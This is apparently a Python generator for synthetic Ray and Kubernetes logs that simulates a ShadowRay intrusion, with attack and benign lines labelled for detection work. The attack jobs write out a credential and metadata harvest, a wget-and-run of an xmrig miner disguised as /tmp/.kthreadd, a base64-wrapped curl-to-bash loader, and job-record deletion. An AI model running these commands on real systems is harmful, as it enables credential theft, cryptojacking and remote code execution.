"""Scenario b: ShadowRay - unauthenticated Ray job submission -> miner entrypoint.

Writes samples/scenarios/b-shadowray/{ray/...,kubernetes/audit.log}.
Run: python3 samples/scenarios/tools/gen_b.py
"""

import base64
import datetime as dt
import os
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(__file__))
from common import Timeline, hexid, k8s_audit, ray_access, ray_event, ray_line, rnd, t, write  # noqa: E402

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "b-shadowray")
DAY = 26
R = rnd(20261126_2)
TL = Timeline()
ms = dt.timedelta(milliseconds=1)
sec = dt.timedelta(seconds=1)

DASH = "ray/dashboard.log"
AGENT = "ray/dashboard_agent.log"
EVENTS = "ray/events/event_JOBS.log"
AUDIT = "kubernetes/audit.log"
HEAD = "raycluster-train-head-7x9kq"
HEAD_IP = "10.244.3.20"
NODE_ID = hexid(R, 56)
CLI = "ray-job-cli/2.60.0"
ATTACKER = "198.51.100.23"
ATTACKER_UA = "python-requests/2.31.0"
CI = "10.20.4.17"
LOCAL = "127.0.0.1"  # kubectl port-forward terminates in the head pod's network namespace
DRIVERS = {}  # submission id -> (lines, attack lines)

A, B = "attack", "benign"


def access(done, ip, method, path, status, size, ua, label, dur_us=None):
    dur_us = dur_us or R.randint(2500, 15000)
    started = done - dt.timedelta(microseconds=dur_us)
    TL.add(DASH, done, ray_access(done, started, ip, method, path, status, size, dur_us, ua), label)


def report_events(ts):
    access(ts, LOCAL, "POST", "/report_events", 200, 213, "Python/3.11 aiohttp/3.14.5", B)


def submission_id():
    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    return "raysubmit_" + "".join(R.choice(alphabet) for _ in range(16))


def start_job(ts, sid, entrypoint, output, label, entry_after_output=0):
    """What the head writes when a job starts: dashboard_agent.log, the JOBS event, the driver log.
    Returns the time the POST /api/jobs/ response is logged."""
    TL.add(AGENT, ts, ray_line(ts, "INFO", "job_manager.py:533", f"Starting job with submission_id: {sid}"), label)
    TL.add(AGENT, ts + 4 * ms, ray_line(ts + 4 * ms, "INFO", "job_manager.py:457",
                                        f"Head node ID found in GCS; scheduling job driver on head node {NODE_ID} "
                                        "using a label selector"), label)
    drv = ts + 290 * ms
    lines = [ray_line(drv, "INFO", "job_manager.py:581", "Runtime env is setting up.")]
    entry = f"Running entrypoint for job {sid}: {entrypoint}"
    out = list(output)
    body = out[:entry_after_output] + [entry] + out[entry_after_output:]
    lines += body
    DRIVERS[sid] = (lines, len(lines) if label == A else 0)
    TL.add(EVENTS, drv + 310 * ms, ray_event(R, drv + 310 * ms, HEAD, 412, f"Started a ray job {sid}.", sid), label)
    return drv + 12 * ms


def finish_job(ts, sid, status, label):
    TL.add(EVENTS, ts, ray_event(R, ts, HEAD, 412, f"Completed a ray job {sid} with a status {status}.", sid,
                                 "INFO" if status != "FAILED" else "ERROR"), label)
    report_events(ts + 40 * ms)


def poll(ts_from, ts_to, every, ip, sid, ua, label, size=640):
    tt = ts_from
    while tt < ts_to:
        access(tt, ip, "GET", f"/api/jobs/{sid}", 200, size + R.randint(0, 30), ua, label)
        tt += dt.timedelta(seconds=every, milliseconds=R.randint(-80, 80))


# ====================================================================== benign
# 1. CI (GitLab runner) submits the nightly feature build with `ray job submit --no-wait`, then polls
sid = "nightly-features-20261126"
tt = t(DAY, "09:02:10", 318)
access(tt, CI, "GET", "/api/version", 200, 315, CLI, B)
done = start_job(tt + 180 * ms, sid,
                 "python jobs/build_features.py --date 2026-11-25 --output s3://ml-datasets/features/2026-11-25/",
                 ["Reading 412 partitions from s3://ml-datasets/raw/events/2026-11-25/",
                  "Running Dataset: dataset_4_0. Active & requested resources: 8/8 CPU, 2.0GB/9.3GB object store",
                  "Wrote 64 files to s3://ml-datasets/features/2026-11-25/ (6.1 GiB)",
                  "features built in 812.4 s"], B, entry_after_output=0)
access(done, CI, "POST", "/api/jobs/", 200, 236, CLI, B, dur_us=302_114)
report_events(done + 1900 * ms)
poll(done + 15 * sec, t(DAY, "09:16:05"), 15, CI, sid, CLI, B, 702)
finish_job(t(DAY, "09:15:44", 210), sid, "SUCCEEDED", B)
access(t(DAY, "09:16:06", 93), CI, "GET", f"/api/jobs/{sid}", 200, 1190, CLI, B)
access(t(DAY, "09:16:06", 141), CI, "GET", f"/api/jobs/{sid}/logs", 200, 512, CLI, B)

# 2. alice submits a tuning sweep through `kubectl port-forward` (the dashboard sees 127.0.0.1)
#    with `ray job submit`, which tails the logs over a websocket until the job ends
sid = submission_id()
TUNE = sid
tt = t(DAY, "09:21:02", 77)
access(tt, LOCAL, "GET", "/api/version", 200, 315, CLI, B)
done = start_job(tt + 150 * ms, sid, "python tune_xgb.py --num-samples 32 --storage-path s3://ml-experiments/ray-results/",
                 ["== Status ==", "Current time: 2026-11-26 09:21:09 (running for 00:00:05.12)",
                  "Using FIFO scheduling algorithm.", "Logical resource usage: 8.0/8 CPUs, 0/0 GPUs",
                  "Trial TuneXGB_3c1a2_00031 completed. Last result: validation-auc=0.9127",
                  "Best config: {'eta': 0.08, 'max_depth': 7, 'subsample': 0.85}"], B, entry_after_output=0)
access(done, LOCAL, "POST", "/api/jobs/", 200, 240, CLI, B, dur_us=265_310)
report_events(done + 2100 * ms)
tail_start = done + 40 * ms
tail_end = t(DAY, "09:46:31", 402)
finish_job(tail_end - 900 * ms, sid, "SUCCEEDED", B)
us = int((tail_end - tail_start).total_seconds() * 1e6)
access(tail_end, LOCAL, "GET", f"/api/jobs/{sid}/logs/tail", 101, 0, CLI, B, dur_us=us)
access(tail_end + 20 * ms, LOCAL, "GET", f"/api/jobs/{sid}", 200, 1262, CLI, B)

# 3. CI submits the ResNet-50 training job later in the morning
sid = "train-resnet50-20261126"
tt = t(DAY, "10:06:40", 512)
access(tt, CI, "GET", "/api/version", 200, 315, CLI, B)
done = start_job(tt + 170 * ms, sid,
                 "python train_resnet.py --epochs 20 --data s3://ml-datasets/image-qc/train/ --mlflow-experiment image-qc",
                 ["Started distributed worker processes: 2 GPU workers",
                  "Epoch 1/20: train_loss=0.6931 val_acc=0.712",
                  "Epoch 2/20: train_loss=0.4127 val_acc=0.803"], B, entry_after_output=0)
access(done, CI, "POST", "/api/jobs/", 200, 234, CLI, B, dur_us=288_901)
report_events(done + 1700 * ms)
poll(done + 15 * sec, t(DAY, "10:44:00"), 15, CI, sid, CLI, B, 700)

# ====================================================================== attack
# 1. reconnaissance of the exposed dashboard (ShadowRay scanners fingerprint with these endpoints)
tt = t(DAY, "09:47:12", 208)
for path, size in [("/api/version", 315), ("/api/cluster_status", 2107), ("/nodes?view=summary", 17_412),
                   ("/api/v0/nodes", 1904), ("/api/jobs/", 4410), ("/api/v0/actors", 2260),
                   ("/api/v0/tasks?limit=100", 9311), ("/api/serve/applications/", 242),
                   ("/api/v0/cluster_events", 1381), ("/logical/actors", 3120),
                   (f"/api/v0/logs?node_ip={HEAD_IP}", 3377)]:
    tt += R.randint(180, 600) * ms
    access(tt, ATTACKER, "GET", path, 501 if path.startswith("/api/serve") else 200, size, ATTACKER_UA, A)

# 2. job A: credential harvest (environment, AWS config, instance metadata)
SID_A = submission_id()
ENTRY_A = ("env | grep -iE 'aws|hf_|token|secret|key|wandb'; cat ~/.aws/credentials 2>/dev/null; "
           "curl -s -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/")
HF = "hf_EXAMPLEtokenDOCUMENTATIONonlyNOTrl"  # the shape of a Hugging Face token, not a real one
done = start_job(t(DAY, "09:48:02", 410), SID_A, ENTRY_A,
                 ["AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
                  "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
                  "AWS_DEFAULT_REGION=us-east-1",
                  f"HF_TOKEN={HF}",
                  "WANDB_API_KEY=0000example0000wandb0000key0000not0real00"], A, entry_after_output=0)
access(done, ATTACKER, "POST", "/api/jobs/", 200, 244, ATTACKER_UA, A, dur_us=281_442)
report_events(done + 2 * sec)
poll(done + 1 * sec, done + 5 * sec, 1, ATTACKER, SID_A, ATTACKER_UA, A, 700)
finish_job(done + 3600 * ms, SID_A, "SUCCEEDED", A)
access(done + 5100 * ms, ATTACKER, "GET", f"/api/jobs/{SID_A}/logs", 200, 611, ATTACKER_UA, A)

# 3. job B: download and start a Monero miner (keeps running as the job)
SID_B = submission_id()
ENTRY_B = ("wget -q -O /tmp/.kthreadd http://203.0.113.200/x86_64/xmrig && chmod +x /tmp/.kthreadd && "
           "/tmp/.kthreadd -o stratum+tcp://pool.example.net:3333 -u 4EXAMPLEWALLETxDOCUMENTATIONxONLY -p ray "
           "--donate-level 1 --cpu-max-threads-hint 90")
miner_start = t(DAY, "09:49:31", 602)
miner_out = [
    " * ABOUT        XMRig/6.21.3 gcc/11.4.0 (built for Linux x86-64, 64 bit)",
    " * LIBS         libuv/1.48.0 OpenSSL/3.0.13 hwloc/2.10.0",
    " * CPU          AMD EPYC 7R13 Processor (1) 64-bit AES",
    " * DONATE       1%",
    " * POOL #1      stratum+tcp://pool.example.net:3333 algo auto",
    "[2026-11-26 09:49:34.118]  net      use pool pool.example.net:3333  203.0.113.201",
    "[2026-11-26 09:49:34.118]  net      new job from pool.example.net:3333 diff 120001 algo rx/0 height 3291004",
    "[2026-11-26 09:49:36.904]  cpu      READY threads 28/28 (28) huge pages 0% 0/28 memory 57344 KB (2790 ms)",
    "[2026-11-26 09:50:37.021]  miner    speed 10s/60s/15m 9812.4 9790.1 n/a H/s max 9851.0 H/s",
]
done = start_job(miner_start, SID_B, ENTRY_B, miner_out, A, entry_after_output=0)
access(done, ATTACKER, "POST", "/api/jobs/", 200, 244, ATTACKER_UA, A, dur_us=276_003)
report_events(done + 2 * sec)
poll(done + 1 * sec, done + 4 * sec, 1, ATTACKER, SID_B, ATTACKER_UA, A, 690)

# 4. job C: base64-wrapped loader that installs persistence from the attacker's server
SID_C = submission_id()
loader = base64.b64encode(b"curl -fsSL http://203.0.113.200/rt.sh | bash").decode()
ENTRY_C = f"python -c \"import base64,os;os.system(base64.b64decode('{loader}').decode())\""
done = start_job(t(DAY, "09:50:05", 87), SID_C, ENTRY_C, ["nohup: ignoring input"], A, entry_after_output=1)
access(done, ATTACKER, "POST", "/api/jobs/", 200, 244, ATTACKER_UA, A, dur_us=290_776)
report_events(done + 2 * sec)
poll(done + 1 * sec, done + 4 * sec, 1, ATTACKER, SID_C, ATTACKER_UA, A, 690)
finish_job(done + 3 * sec, SID_C, "SUCCEEDED", A)

# 5. anti-forensics: the finished jobs' records are deleted (the driver logs stay on disk)
access(t(DAY, "09:52:40", 318), ATTACKER, "DELETE", f"/api/jobs/{SID_A}", 200, 176, ATTACKER_UA, A)
access(t(DAY, "09:52:41", 2), ATTACKER, "DELETE", f"/api/jobs/{SID_C}", 200, 176, ATTACKER_UA, A)
access(t(DAY, "09:52:41", 30), ATTACKER, "GET", "/api/jobs/", 200, 3921, ATTACKER_UA, A)

# ====================================================================== response (benign)
# the on-call SRE stops the miner through a port-forward, then closes the exposure
SRE = "10.20.0.5"
access(t(DAY, "10:37:51", 120), LOCAL, "GET", "/api/version", 200, 315, CLI, B)
access(t(DAY, "10:37:51", 305), LOCAL, "GET", "/api/jobs/", 200, 3877, CLI, B)
access(t(DAY, "10:38:20", 10), LOCAL, "POST", f"/api/jobs/{SID_B}/stop", 200, 176, CLI, B, dur_us=21_340)
finish_job(t(DAY, "10:38:21", 12), SID_B, "STOPPED", B)
access(t(DAY, "10:38:24", 44), LOCAL, "GET", f"/api/jobs/{SID_B}", 200, 1204, CLI, B)

# ---------------------------------------------------------------- Kubernetes audit
SA_GROUPS = ["system:serviceaccounts", "system:authenticated"]
KUBECTL = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"


def audit(ts, label, *a, **k):
    TL.add(AUDIT, ts, k8s_audit(R, ts, *a, **k), label)


bob_reason = 'RBAC: allowed by RoleBinding "ray-train-admins/ray-train" of ClusterRole "admin" to User "bob@example.com"'
audit(t(DAY, "08:41:07", 512), B, "create", "/api/v1/namespaces/ray-train/services?fieldManager=kubectl-client-side-apply"
      "&fieldValidation=Strict", "bob@example.com", ["ml-engineers", "system:authenticated"], "10.30.2.66", KUBECTL,
      {"resource": "services", "namespace": "ray-train", "name": "raycluster-train-dashboard", "apiVersion": "v1"}, 201,
      reason=bob_reason)
audit(t(DAY, "08:41:09", 90), B, "patch", "/api/v1/namespaces/ray-train/services/raycluster-train-dashboard/status",
      "system:serviceaccount:kube-system:service-controller", SA_GROUPS[:1] + ["system:serviceaccounts:kube-system",
                                                                                "system:authenticated"],
      "10.0.1.10", "cloud-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:service-controller",
      {"resource": "services", "namespace": "ray-train", "name": "raycluster-train-dashboard", "apiVersion": "v1",
       "subresource": "status"}, 200,
      reason='RBAC: allowed by ClusterRoleBinding "system:controller:service-controller" of ClusterRole '
             '"system:controller:service-controller" to ServiceAccount "service-controller/kube-system"')
op_groups = ["system:serviceaccounts", "system:serviceaccounts:ray-system", "system:authenticated"]
op_reason = ('RBAC: allowed by ClusterRoleBinding "kuberay-operator" of ClusterRole "kuberay-operator" to '
             'ServiceAccount "kuberay-operator/ray-system"')
tt = t(DAY, "08:45:00", 114)
while tt < t(DAY, "10:50:00"):
    audit(tt, B, "update", "/apis/ray.io/v1/namespaces/ray-train/rayclusters/raycluster-train/status",
          "system:serviceaccount:ray-system:kuberay-operator", op_groups, "10.244.0.27",
          "kuberay-operator/v1.4.2 (linux/amd64) kubernetes/$Format",
          {"resource": "rayclusters", "namespace": "ray-train", "name": "raycluster-train", "apiGroup": "ray.io",
           "apiVersion": "v1", "subresource": "status"}, 200, reason=op_reason)
    tt += dt.timedelta(minutes=5, milliseconds=R.randint(-400, 400))
alice_reason = 'RBAC: allowed by RoleBinding "ray-train-users/ray-train" of ClusterRole "edit" to User "alice@example.com"'
audit(t(DAY, "09:20:41", 3), B, "create", f"/api/v1/namespaces/ray-train/pods/{HEAD}/portforward",
      "alice@example.com", ["ml-researchers", "system:authenticated"], "10.30.2.41", KUBECTL,
      {"resource": "pods", "namespace": "ray-train", "name": HEAD, "apiVersion": "v1", "subresource": "portforward"},
      101, stage="ResponseStarted", reason=alice_reason, latency_ms=180)
sre_groups = ["sre", "system:authenticated"]
sre_reason = 'RBAC: allowed by ClusterRoleBinding "sre-cluster-admin" of ClusterRole "cluster-admin" to Group "sre"'
audit(t(DAY, "10:37:40", 18), B, "create", f"/api/v1/namespaces/ray-train/pods/{HEAD}/portforward",
      "sre-oncall@example.com", sre_groups, SRE, KUBECTL,
      {"resource": "pods", "namespace": "ray-train", "name": HEAD, "apiVersion": "v1", "subresource": "portforward"},
      101, stage="ResponseStarted", reason=sre_reason, latency_ms=170)
audit(t(DAY, "10:40:12", 407), B, "patch", "/api/v1/namespaces/ray-train/services/raycluster-train-dashboard?fieldManager=kubectl-patch",
      "sre-oncall@example.com", sre_groups, SRE, KUBECTL,
      {"resource": "services", "namespace": "ray-train", "name": "raycluster-train-dashboard", "apiVersion": "v1"},
      200, reason=sre_reason)
audit(t(DAY, "10:41:03", 77), B, "create",
      "/apis/networking.k8s.io/v1/namespaces/ray-train/networkpolicies?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
      "sre-oncall@example.com", sre_groups, SRE, KUBECTL,
      {"resource": "networkpolicies", "namespace": "ray-train", "name": "ray-dashboard-internal-only",
       "apiGroup": "networking.k8s.io", "apiVersion": "v1"}, 201, reason=sre_reason)
audit(t(DAY, "10:44:30", 610), B, "delete", f"/api/v1/namespaces/ray-train/pods/{HEAD}",
      "sre-oncall@example.com", sre_groups, SRE, KUBECTL,
      {"resource": "pods", "namespace": "ray-train", "name": HEAD, "apiVersion": "v1"}, 200, reason=sre_reason)

if __name__ == "__main__":
    stats = TL.render(ROOT)
    for sid, (lines, att) in DRIVERS.items():
        write(f"{ROOT}/ray/job-driver-{sid}.log", lines)
        stats[f"ray/job-driver-{sid}.log"] = (att, len(lines) - att)
    for f, (a, b) in sorted(stats.items()):
        print(f"{f}: {a} attack, {b} benign lines")
    print("A", SID_A, "B", SID_B, "C", SID_C, "tune", TUNE)
